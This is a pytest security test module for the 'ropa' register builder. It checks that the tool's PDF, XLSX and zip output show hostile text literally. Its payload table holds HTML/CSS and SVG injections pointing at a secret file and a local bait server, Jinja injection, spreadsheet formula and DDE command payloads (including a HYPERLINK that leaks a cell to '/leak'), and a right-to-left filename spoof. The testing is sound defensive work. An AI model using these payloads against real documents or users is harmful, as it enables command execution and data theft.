"""Text that targets the renderers, end to end through 'ropa build' and 'ropa package'.

One small register carries HTML and CSS payloads (script, style, img, link
rel=attachment, url() with file:, http: and data:), Jinja syntax, spreadsheet
formulas and DDE payloads, right-to-left and zero-width characters, emoji,
Latvian, Greek, Chinese and Arabic names, and a 2,000-letter word. It is built
and packaged once; the tests then open the PDFs (pypdf, pdftotext), the XLSX
(openpyxl and its XML) and the zip, and check: every payload is shown literally,
nothing from the disk or the network got in (a secret file and a local HTTP
server that counts requests are the bait), no cell is a formula, the scripts are
drawn with real glyphs, and the long word stays on the page.
"""

from __future__ import annotations

import http.server
import re
import subprocess
import threading
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from openpyxl import load_workbook

from hostile import pdfcheck
from hostile.support import ORGANISATION, PROVIDER, Workspace, invoke

SECRET = "ropa-hostile-secret-93c1e0"
SCRIPTS = {
    "latvian": 'SIA "Ķekava Ūdens" – Ģirts Šķēle',
    "greek": "Ελληνική Εταιρεία Τηλεπικοινωνιών Α.Ε.",
    "chinese": "深圳市腾讯计算机系统有限公司",
    "arabic": "شركة الاتصالات السعودية",
}
SPREADSHEET = (
    "formula",
    "formula-hyperlink",
    "formula-webservice",
    "dde",
    "plus",
    "minus",
    "at",
    "tab-prefix",
    "cr-prefix",
    "error-lookalike",
)
"""Payloads aimed at spreadsheets; each is also a data category, so it fills one cell on its own."""
LONG_WORD = "Datenschutzfolgenabschätzung" * 70  # 1,960 letters, no break opportunity


def payloads(secret: Path, port: int) -> dict[str, str]:
    """Every hostile text, by name; the file and URL ones aim at the bait."""
    web = f"http://127.0.0.1:{port}"
    return {
        "script": "<script>document.write('pwned')</script>",
        "style": "<style>body { display: none }</style>",
        "img-file": f'<img src="file://{secret}">',
        "img-http": f'<img src="{web}/pixel.png">',
        "link-attachment": f'<link rel="attachment" href="file://{secret}">',
        "link-stylesheet": f'<link rel="stylesheet" href="{web}/evil.css">',
        "css-url-file": f'<p style="background: url(file://{secret})">x</p>',
        "css-url-http": f"</style><style>@import url({web}/import.css); p {{ background: url({web}/bg.png) }}</style>",
        "css-url-data": '<div style="background: url(data:image/png;base64,iVBORw0KGgo=)">data</div>',
        "attribute-break": f'x" href="file://{secret}" style="content: url({web}/a.png)',
        "svg": f'<svg><image href="file://{secret}"/></svg>',
        "jinja-expression": "{{ 7*7 }} {{ config }}",
        "jinja-statement": "{% for i in range(3) %}LOOP{% endfor %} {# comment #}",
        "formula": "=1+2",
        "formula-hyperlink": f'=HYPERLINK("{web}/leak?x="&A1,"click me")',
        "formula-webservice": f'=WEBSERVICE("{web}/ws")',
        "dde": "=cmd|' /C calc'!A0",
        "plus": "+41 44 668 18 00",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab-prefix": "\t=1+1",
        "cr-prefix": "\r=1+1",
        "error-lookalike": "#N/A",
        "rtl-override": "invoice\u202egpj.exe\u202c",
        "rtl-isolate": "\u2067مرحبا\u2069 world",
        "zero-width": "Acme\u200b\u200c\u200dSMS\ufeffLtd",
        "emoji": "SMS 📱 ✉️ 🇪🇺",
        **SCRIPTS,
        "long-word": LONG_WORD,
    }


class _Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Counter.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@dataclass
class Built:
    """What one build and one package of the hostile register produced."""

    payloads: dict[str, str]
    out: Path
    package: Path
    secret: Path
    hits: list[str]


def _provider(pid: str, name: str, texts: dict[str, str]) -> dict[str, Any]:
    """A provider whose fields carry the payloads: one activity holds each payload as a purpose, and the
    spreadsheet payloads as data categories too (one workbook row each)."""
    data: dict[str, Any] = yaml.safe_load(PROVIDER)
    data["id"] = pid
    data["legal_name"] = name
    data["service"] = texts["jinja-expression"]
    data["toms"] = [{"kind": "transmission", "measure": texts["css-url-file"]}]
    data["contacts"] = [{"name": texts["script"], "url": texts["img-file"], "email": "dpo@example.com"}]
    data["sub_processors"] = [
        {"id": "carrier", "name": SCRIPTS["arabic"], "country": "DE", "service": texts["formula-hyperlink"]},
        {"id": "cloud", "name": SCRIPTS["chinese"], "country": "DE", "service": texts["dde"]},
    ]
    items = list(texts.items())
    data["activities"] = [
        {
            "id": f"{pid}-payloads",
            "name": texts["script"],
            "description": texts["long-word"],
            "purposes": [{"description": f"{text} ({key})", "lawful_basis": "6.1.b"} for key, text in items],
            "data_subjects": [{"name": SCRIPTS["greek"]}, {"name": texts["rtl-isolate"]}],
            "data_categories": [
                {"id": f"c{i:02d}", "name": texts[key], "retention": {"kind": "duration", "duration": "P30D"}}
                for i, key in enumerate(SPREADSHEET)
            ],
            "recipients": [],
        },
    ]
    return data


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    root = tmp_path_factory.mktemp("renderer")
    secret = root / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET, encoding="utf-8")
    _Counter.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        texts = payloads(secret, server.server_address[1])
        register = root / "register"
        (register / "providers").mkdir(parents=True)
        latvian = yaml.safe_dump(SCRIPTS["latvian"], allow_unicode=True).split("\n")[0]
        org = ORGANISATION.replace("legal_name: Example GmbH", f"legal_name: {latvian}")
        (register / "organisation.yaml").write_text(org, encoding="utf-8")
        acme = _provider("acme", f"{SCRIPTS['greek']} {texts['script']}", texts)
        beta = {**yaml.safe_load(PROVIDER), "id": "beta", "legal_name": SCRIPTS["arabic"]}
        beta["activities"] = [{**beta["activities"][0], "id": "beta-otp", "name": SCRIPTS["chinese"]}]
        for pid, data in (("acme", acme), ("beta", beta)):
            text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
            (register / "providers" / f"{pid}.yaml").write_text(text, encoding="utf-8")
        out = root / "out"
        build = invoke(["build", str(register), "--out", str(out), "--quiet"])
        assert build.code == 0, build.stderr
        pack = invoke(["package", str(register), "--out", str(root / "pkg"), "--quiet", "--allow-findings"])
        assert pack.code == 0, pack.stderr
        assert "Traceback" not in build.stderr + pack.stderr
        yield Built(texts, out, Path(pack.stdout.strip()), secret, _Counter.hits)
    finally:
        server.shutdown()
        server.server_close()


def squash(text: str) -> str:
    """Text without whitespace, hyphens (pdftotext drops a hyphen that ends a line) or the invisible
    characters PDF extraction may drop."""
    invisible = r"[\s\-\u00ad\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\ufe0f]+"
    return re.sub(invisible, "", unicodedata.normalize("NFKC", text))


def pdfs(built: Built) -> dict[str, Path]:
    annexes = sorted((built.out / "annexes").glob("*.pdf"))
    return {"register": built.out / "register.pdf", **{p.stem: p for p in annexes}}


LITERAL_IN_PDF = [
    k
    for k in (
        "script",
        "style",
        "img-file",
        "img-http",
        "link-attachment",
        "link-stylesheet",
        "css-url-file",
        "css-url-http",
        "css-url-data",
        "attribute-break",
        "svg",
        "jinja-expression",
        "jinja-statement",
        "formula",
        "formula-hyperlink",
        "dde",
        "plus",
        "at",
        "error-lookalike",
        "latvian",
        "greek",
        "chinese",
        "emoji",
        "zero-width",
    )
]


def test_register_pdf_shows_every_payload_literally(built: Built) -> None:
    text = squash(pdfcheck.text(built.out / "register.pdf"))
    for key in LITERAL_IN_PDF:
        assert squash(built.payloads[key]) in text, f"{key} is not printed literally"
    assert "LOOPLOOPLOOP" not in text and "pwned" not in text.replace("document.write('pwned')", "")


def test_annexes_show_payloads_literally(built: Built) -> None:
    annex = squash(pdfcheck.text(built.out / "annexes" / "acme.pdf"))
    for key in ("script", "css-url-file", "jinja-expression", "chinese", "formula-hyperlink", "dde"):
        assert squash(built.payloads[key]) in annex, f"{key} is not printed literally in the annex"
    assert squash(SCRIPTS["greek"]) in annex


def test_arabic_and_bidi_text_survive(built: Built) -> None:
    """Arabic comes out of the PDF with its letters (shaping and visual order may reorder them); a
    closed right-to-left override reverses its own text only, never the words that follow it."""
    text = unicodedata.normalize("NFKC", pdfcheck.text(built.out / "register.pdf"))
    letters = sorted(c for c in SCRIPTS["arabic"] if not c.isspace())
    words = re.findall(r"[\u0600-\u06ff]+", text)
    assert any(sorted("".join(words[i : i + 3])) == letters for i in range(len(words))), words[:12]
    assert re.search(r"invoice\W*exe\.jpg\W*\(rtl-override\)", text), "the override leaked past its value"
    assert "world (rtl-isolate)" in text


def test_unclosed_right_to_left_override_is_refused(ws: Workspace) -> None:
    """An RLO left open would reverse ropa's own words after the value (in PDF, XLSX and terminal)."""
    ws.write("providers/acme.yaml", PROVIDER.replace("legal_name: Acme SMS Ltd", 'legal_name: "Acme \u202eLtd"'))
    ws.refuse_everywhere("providers/acme.yaml", 2, "U+202E at position 6 is never closed")


def test_scripts_are_drawn_with_real_glyphs(built: Built) -> None:
    """No character of the Latvian, Greek, Chinese or Arabic names is drawn as .notdef (tofu)."""
    needed = set("".join(SCRIPTS.values())) - {" ", '"', "–", "."}
    for name, path in pdfs(built).items():
        tofu = pdfcheck.missing_glyphs(pdfcheck.reader(path))
        assert not tofu & needed, f"{name}: drawn without a glyph: {sorted(tofu & needed)}"
        assert not any(c for piece in tofu for c in piece if c in needed)


def test_nothing_from_disk_or_network_gets_in(built: Built) -> None:
    assert built.hits == [], f"the build fetched {built.hits}"
    for name, path in pdfs(built).items():
        pdf = pdfcheck.reader(path)
        blob = pdfcheck.all_bytes(pdf)
        assert SECRET.encode() not in blob, f"{name} embeds the secret file"
        assert pdfcheck.image_count(pdf) == 0, f"{name} draws an image"
        assert pdfcheck.uri_links(pdf) == [], f"{name} links out: {pdfcheck.uri_links(pdf)}"
        attached = pdfcheck.attachments(pdf)
        assert set(attached) <= {"register.json"}, f"{name} attaches {sorted(attached)}"
        for data in attached.get("register.json", []):
            assert SECRET.encode() not in data
    with zipfile.ZipFile(built.out / "register.xlsx") as book:
        for member in book.namelist():
            assert SECRET.encode() not in book.read(member)


def test_no_cell_is_a_formula_and_payloads_are_text(built: Built) -> None:
    book = load_workbook(built.out / "register.xlsx")
    values: set[str] = set()
    for sheet in book.worksheets:
        assert not getattr(sheet, "_hyperlinks", None), f"{sheet.title} has hyperlinks"
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                assert cell.data_type not in ("f", "e"), f"{where} is {cell.data_type}: {cell.value!r}"
                if isinstance(cell.value, str):
                    values.add(cell.value)
    for key in SPREADSHEET:
        if key not in ("tab-prefix", "cr-prefix"):
            assert built.payloads[key] in values, f"{key} is not a literal text cell"
    # leading tab and CR are whitespace to the model (stripped); what remains is still text, not a formula
    assert "=1+1" in values


def test_workbook_xml_has_no_formula_link_or_external_part(built: Built) -> None:
    with zipfile.ZipFile(built.out / "register.xlsx") as book:
        names = book.namelist()
        assert not [n for n in names if "externalLink" in n or "vbaProject" in n or n.endswith(".bin")], names
        for member in names:
            xml = book.read(member)
            assert not re.search(rb"<f[ >]", xml), f"{member} holds a formula"
            assert b'TargetMode="External"' not in xml, f"{member} points outside"
            assert b"<hyperlink" not in xml, f"{member} holds a hyperlink"
            assert b"ddeLink" not in xml and b"oleLink" not in xml


def test_long_word_stays_on_the_page(built: Built) -> None:
    """pdftotext's word boxes: every word inside the page width; the long word printed whole."""
    for name, path in pdfs(built).items():
        layout = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True, check=True).stdout.decode()
        width = float(re.search(r'<page width="([\d.]+)"', layout).group(1))  # type: ignore[union-attr]
        boxes = re.findall(r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>', layout)
        over = [(word[:30], x_max) for x_min, x_max, word in boxes if float(x_max) > width - 20 or float(x_min) < 0]
        assert not over, f"{name}: text runs off the page: {over[:5]}"
    register = squash(pdfcheck.text(built.out / "register.pdf"))
    assert LONG_WORD in register


def test_package_members_are_safe_and_hold_nothing_from_outside(built: Built, tmp_path: Path) -> None:
    """The archive: plain relative names, no links, no secret; its documents pass the same checks."""
    with zipfile.ZipFile(built.package) as archive:
        names = archive.namelist()
        for info in archive.infolist():
            assert not info.filename.startswith("/") and ".." not in info.filename.split("/"), info.filename
            assert (info.external_attr >> 16) & 0o170000 != 0o120000, f"{info.filename} is a symlink"
            assert SECRET.encode() not in archive.read(info), f"{info.filename} holds the secret"
        assert {"register.pdf", "register.xlsx", "annexes/acme.pdf"} <= set(names), names
        for name in ("register.pdf", "annexes/acme.pdf", "report/validation-report.pdf"):
            path = tmp_path / name.replace("/", "_")
            path.write_bytes(archive.read(name))
            pdf = pdfcheck.reader(path)
            assert pdfcheck.image_count(pdf) == 0 and pdfcheck.uri_links(pdf) == [], name
            assert set(pdfcheck.attachments(pdf)) <= {"register.json"}, name
        book = tmp_path / "register.xlsx"
        book.write_bytes(archive.read("register.xlsx"))
    for sheet in load_workbook(book).worksheets:
        assert all(cell.data_type not in ("f", "e") for row in sheet.iter_rows() for cell in row), sheet.title
    verify = invoke(["verify", str(built.package)])
    assert verify.code == 0, verify.stdout + verify.stderr
